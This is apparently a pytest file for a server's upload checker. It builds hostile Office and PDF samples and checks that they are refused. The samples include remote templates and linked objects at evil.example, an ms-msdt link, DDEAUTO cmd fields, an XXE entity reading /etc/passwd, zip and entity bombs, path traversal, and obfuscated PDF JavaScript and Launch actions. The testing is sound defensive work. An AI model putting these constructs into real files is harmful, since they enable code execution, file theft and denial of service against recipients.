"""Office documents and PDF: what they may hold, looked at before anything opens them."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable

import pytest
from docx import Document
from gongzhi.runtime.file_checks import DocumentLimits, UnfitFile
from gongzhi_server.files import pdf
from gongzhi_server.files.office_documents import check_document, open_archive
from gongzhi_server.files.pdf import check_pdf
from openpyxl import Workbook

from .conftest import Phone
from .samples import PDF

RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def text_document() -> bytes:
    """A docx as an office program writes it, with a picture's size of styles, and a link to click on."""
    made, document = io.BytesIO(), Document()
    document.add_paragraph("情况说明")
    document.part.relate_to("https://county.example.org/notice", RELATION + "hyperlink", is_external=True)
    document.save(made)
    return made.getvalue()


def sheet_document() -> bytes:
    """An xlsx whose cells are well packed, and what Excel writes about the printer."""
    made, book = io.BytesIO(), Workbook()
    assert book.active is not None
    for _ in range(20_000):
        book.active.append(["测试", 1, 2, 3])
    book.save(made)
    return changed(made.getvalue(), {"xl/printerSettings/printerSettings1.bin": b"\x01\x00printer"})


def changed(document: bytes, parts: dict[str, bytes], relation: str = "") -> bytes:
    """The document with further or other parts, and a further relation of its text."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(document)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            if relation and name in ("word/_rels/document.xml.rels", "xl/_rels/workbook.xml.rels"):
                content = content.replace(b"</Relationships>", relation.encode() + b"</Relationships>")
            if name not in parts:
                new.writestr(name, content)
        for name, content in parts.items():
            new.writestr(name, content)
    return made.getvalue()


def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    relation = f'<Relationship Id="rId99" Type="{RELATION}{kind}" Target="{target}"{mode}/>'
    return changed(text_document(), {}, relation)


def text(body: str) -> bytes:
    return f"<w:document {WORD}><w:body>{body}</w:body></w:document>".encode()


def fields(*pieces: str) -> bytes:
    """A text with a field whose instruction is cut into runs."""
    runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in pieces)
    return text(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>')


LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
OUTSIDE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
SETTINGS = f"<w:settings {WORD}/>".encode()
HOSTILE: dict[str, Callable[[], bytes]] = {
    "a remote template": lambda: related("attachedTemplate", "https://evil.example/a.dotm"),
    "a template of a share": lambda: related("attachedTemplate", r"\\evil\share\a.dotm"),
    "a template that does not say so": lambda: related("attachedTemplate", "http://evil.example/a.dotm", ""),
    "a linked picture": lambda: related("image", "http://evil.example/pixel.png"),
    "a frame": lambda: related("frame", "https://evil.example/"),
    "a linked object": lambda: related("oleObject", "mhtml:http://evil.example/a!x-usc:http://evil.example/a"),
    "a link to a file": lambda: related("hyperlink", "file:///C:/Windows/System32/calc.exe"),
    "a link to a share": lambda: related("hyperlink", r"\\evil\share\a.docx"),
    "a link with a strange scheme": lambda: related("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "an embedded object": lambda: related("oleObject", "embeddings/a.odd", ""),
    "other formats inside": lambda: related("aFChunk", "afchunk.mht", ""),
    "a macro": lambda: changed(text_document(), {"word/vbaProject.bin": b"x"}),
    "a macro by another name": lambda: related("vbaProject", "media/a.png", ""),
    "a control": lambda: related("control", "activeX/activeX1.xml", ""),
    "a file of macros by its type": lambda: changed(
        text_document(),
        {
            "[Content_Types].xml": b'<Types><Override PartName="/word/document.xml" '
            b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
        },
    ),
    "an archive in it": lambda: changed(text_document(), {"word/media/a.png": text_document()}),
    "an old document in it": lambda: changed(text_document(), {"word/x": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
    "embedded books": lambda: changed(text_document(), {"word/embeddings/a.xlsx": b"x"}),
    "a program": lambda: changed(text_document(), {"word/media/a.exe": b"MZ"}),
    "links of books": lambda: changed(sheet_document(), {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
    "a connection": lambda: changed(sheet_document(), {"xl/connections.xml": b"<connections/>"}),
    "entities": lambda: changed(text_document(), {"word/settings.xml": LAUGHS + SETTINGS}),
    "an entity of a file": lambda: changed(text_document(), {"docProps/core.xml": OUTSIDE + b"<x>&a;</x>"}),
    "entities in what is no XML by its name": lambda: changed(text_document(), {"word/a.odd": LAUGHS + b"<x/>"}),
    "a DTD after much space": lambda: changed(text_document(), {"word/settings.xml": b" " * 9 + LAUGHS + SETTINGS}),
    "UTF-16": lambda: changed(text_document(), {"word/settings.xml": "<a/>".encode("utf-16")}),
    "UTF-16 without a mark": lambda: changed(text_document(), {"word/settings.xml": "<a/>".encode("utf-16-le")}),
    "no element": lambda: changed(text_document(), {"word/settings.xml": b"<!-- " + b"x" * 2_000_000}),
    "DDE": lambda: changed(text_document(), {"word/document.xml": fields("DDEAUTO c:\\\\windows cmd")}),
    "DDE in pieces": lambda: changed(text_document(), {"word/document.xml": fields(" D", "DE", "AUTO cmd")}),
    "DDE in a simple field": lambda: changed(
        text_document(), {"word/header1.xml": text('<w:fldSimple w:instr="dde cmd"/>')}
    ),
    "a picture by a field": lambda: changed(
        text_document(), {"word/document.xml": fields('INCLUDEPICTURE "http://evil.example/a"')}
    ),
    "a bomb": lambda: changed(text_document(), {"word/media/a.bmp": bytes(60_000_000)}),
    "a sheet that is a bomb": lambda: changed(sheet_document(), {"xl/sheet1.xml": b"<a>" + b" " * 99_000_000}),
    "a way out of the archive": lambda: changed(text_document(), {"../evil": b"x"}),
    "half of it": lambda: text_document()[:9_000],
    "no document": lambda: b"PK\x03\x04" + bytes(100),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_documents_are_refused(name: str) -> None:
    with pytest.raises(UnfitFile) as caught:
        check_document(io.BytesIO(HOSTILE[name]()))
    assert caught.value.text.en and caught.value.text.zh


def test_directories_are_bounded() -> None:
    """An archive of 20 MB may have 400 000 entries, which zipfile would read before anybody counts them."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("a", b"x")
        archive.infolist()[1].comment = bytes(60_000)
        for _ in range(40):
            archive.filelist.append(archive.infolist()[1])
        archive._didModify = True  # type: ignore[attr-defined]
    with pytest.raises(zipfile.BadZipFile, match="too large a directory"):
        open_archive(made)
    with pytest.raises(UnfitFile):
        check_document(made)


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_names_are_there_once() -> None:
    made = io.BytesIO(text_document())
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr("word/document.xml", text(""))
    with pytest.raises(UnfitFile):
        check_document(made)


def test_sizes_are_counted_together() -> None:
    noise = {f"word/media/{at}": bytes(4_000_000) for at in range(6)}
    check_document(io.BytesIO(changed(text_document(), noise)))
    with pytest.raises(UnfitFile):
        check_document(io.BytesIO(changed(text_document(), noise)), DocumentLimits(total=20_000_000))


async def test_honest_documents_are_taken(resident: Phone) -> None:
    """With links to click on, page numbers, and what Excel writes about the printer."""
    numbered = changed(text_document(), {"word/footer1.xml": fields(" PAGE ")})
    for document in (text_document(), sheet_document(), numbered):
        assert (await resident.send(document)).status_code == 201


async def test_refusal_says_what_to_do(resident: Phone) -> None:
    reply = await resident.send(HOSTILE["a remote template"](), **{"accept-language": "en"})
    assert reply.status_code == 415 and "from elsewhere" in reply.json()["errors"][0]["message"]


SCRIPT = b"1 0 obj <</S /JavaScript /JS (app.alert(1))>> endobj\n"
PACKED = zlib.compress(b"1 0 <</S /Launch /F (calc.exe)>>")
PDFS = {
    "a script": PDF + SCRIPT,
    "a script in numbers": PDF + SCRIPT.replace(b"/JavaScript", b"/J#61va#53cript"),
    "a program": PDF + b"<</S/Launch/F(calc.exe)>>",
    "a packed script in numbers": PDF + b"/ObjStm stream\n" + zlib.compress(b"/#4aavaScript ") + b"endstream",
    "a packed program": PDF + b"<</Type /ObjStm /N 1>> stream\r\n" + PACKED + b"\nendstream",
    "streams in streams": PDF + b"/ObjStm stream\n" * 1_000 + zlib.compress(bytes(99)),
    "a bomb": PDF + b"<</Type/ObjStm>>stream\n" + zlib.compress(bytes(60_000_000)),
}


@pytest.mark.parametrize("name", PDFS)
def test_active_pdfs_are_refused(name: str) -> None:
    with pytest.raises(UnfitFile):
        check_pdf(PDFS[name])


def test_honest_pdfs_are_taken() -> None:
    check_pdf(PDF)
    check_pdf(PDF + b"<</Type /ObjStm>> stream\nno zlib\nendstream /LaunchPad (JavaScript)")


def test_names_at_the_edge_of_a_slice_are_read_whole() -> None:
    """Wherever they stand: one that is forbidden is found, and one that goes on is another."""
    for left in range(-40, 90):
        padding = b" " * (pdf.SLICE + left)
        assert pdf.is_active(padding + b"/#4caunch 1") and not pdf.is_active(padding + b"/LaunchPad 1")
        assert pdf.is_active(padding + b"/Launch")
